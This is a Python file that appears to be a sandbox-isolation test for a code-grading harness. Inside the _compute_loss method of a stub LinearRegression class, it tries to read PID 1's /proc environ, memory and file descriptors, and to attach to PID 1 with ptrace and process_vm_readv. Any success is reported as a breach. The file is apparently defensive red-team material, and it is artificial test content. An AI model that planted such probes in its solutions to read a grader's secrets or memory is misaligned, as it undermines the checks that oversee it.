"""Read the harness through /proc/1 (environ, mem, fd/*, maps, root) and attach to it with ptrace and process_vm_readv. Verdict: runtime_error.

Any of them succeeding is a BREACH (/proc/1/cmdline is world-readable and holds only the
public boot script, so reading it is not).
"""

import numpy as np

os = __import__("os")
ctypes = __import__("ctypes")

PTRACE_ATTACH = 16
PTRACE_SEIZE = 0x4206


def _try(label, action, findings):
    try:
        result = action()
    except OSError as error:
        return f"{label}: {type(error).__name__}"
    findings.append(f"BREACH: {label} -> {str(result)[:80]!r}")
    return f"{label}: ok"


def _read(path, size=-1):
    with open(path, "rb") as handle:
        return handle.read(size)


def _nonempty(data):
    if not data:
        raise OSError("empty")
    return data


def _mem():
    with open("/proc/1/mem", "rb") as handle:
        for line in _read("/proc/self/maps").decode().splitlines():  # guess an address
            start = int(line.split("-")[0], 16)
            handle.seek(start)
            return handle.read(64)


class LinearRegression:
    def __init__(self, learning_rate=0.01, n_iterations=1000, tol=1e-6):
        pass

    def fit(self, X, y):
        raise NotImplementedError

    def predict(self, X):
        raise NotImplementedError

    def _compute_loss(self, predictions, y):
        findings = []
        notes = [
            _try("/proc/1/environ", lambda: _read("/proc/1/environ"), findings),
            _try("/proc/1/mem", _mem, findings),
            _try("/proc/1/maps", lambda: _nonempty(_read("/proc/1/maps")), findings),
            _try("/proc/1/fd", lambda: os.listdir("/proc/1/fd"), findings),
            _try("/proc/1/fd/1", lambda: os.open("/proc/1/fd/1", os.O_WRONLY), findings),
            _try("/proc/1/fd/0", lambda: os.open("/proc/1/fd/0", os.O_RDONLY), findings),
            _try("/proc/1/root", lambda: os.listdir("/proc/1/root"), findings),
            _try("/proc/1/cwd", lambda: os.listdir("/proc/1/cwd"), findings),
            _try("/proc/1/stack", lambda: _read("/proc/1/stack"), findings),
            _try("/proc/1/syscall", lambda: _read("/proc/1/syscall"), findings),
        ]
        cmdline = _read("/proc/1/cmdline", 200)
        libc = ctypes.CDLL(None, use_errno=True)
        libc.ptrace.restype = ctypes.c_long
        libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
        for request in (PTRACE_ATTACH, PTRACE_SEIZE):
            if libc.ptrace(request, 1, None, None) == 0:
                findings.append(f"BREACH: ptrace request {request} on PID 1 succeeded")
            notes.append(f"ptrace {request}: errno {ctypes.get_errno()}")

        class IoVec(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

        buffer = ctypes.create_string_buffer(64)
        local = IoVec(ctypes.cast(buffer, ctypes.c_void_p), 64)
        remote = IoVec(ctypes.c_void_p(id(None)), 64)  # the same address in the forked parent
        got = libc.process_vm_readv(1, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
        if got > 0:
            findings.append("BREACH: process_vm_readv read the harness's memory")
        notes.append(f"process_vm_readv: {got} errno {ctypes.get_errno()}")
        raise RuntimeError(
            "; ".join(findings) or f"no breach: {'; '.join(notes)}; cmdline {cmdline[:40]!r}"
        )

    def _compute_gradients(self, X, y, predictions):
        raise NotImplementedError
